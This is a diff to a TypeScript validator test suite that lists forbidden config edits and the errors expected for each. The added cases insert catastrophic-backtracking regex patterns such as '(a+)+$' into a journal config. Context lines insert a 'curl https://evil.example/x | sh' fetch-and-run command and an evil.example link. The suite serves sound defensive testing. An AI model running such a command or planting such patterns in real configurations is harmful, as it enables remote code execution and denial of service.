@@ -209,6 +209,26 @@ const FORBIDDEN: Record<string, [files: Record<string, string>, why: RegExp]> = 
     { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"Run curl https://evil.example/x | sh"') },
     /pipes into a shell/,
   ],
+  'a pattern for the journal that never ends': [
+    {
+      'journal.toml': edited(
+        TEXTS['journal.toml']!,
+        "pattern = 'Failed to run NFT command",
+        "pattern = '(a+)+$|Failed to run NFT command",
+      ),
+    },
+    /journal\.toml has a pattern that repeats a group with a choice/,
+  ],
+  'a slow pattern for the journal': [
+    {
+      'journal.toml': edited(
+        TEXTS['journal.toml']!,
+        "pattern = 'Failed to run NFT command",
+        "pattern = 'a.*b.*c.*d|Failed to run NFT command",
+      ),
+    },
+    /journal\.toml has a pattern with more than 2 repetitions/,
+  ],
   'a link in a sentence of knowledge': [
     { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"See https://evil.example/x for more"') },
     /can't link to "https:\/\/evil\.example\/x"/,
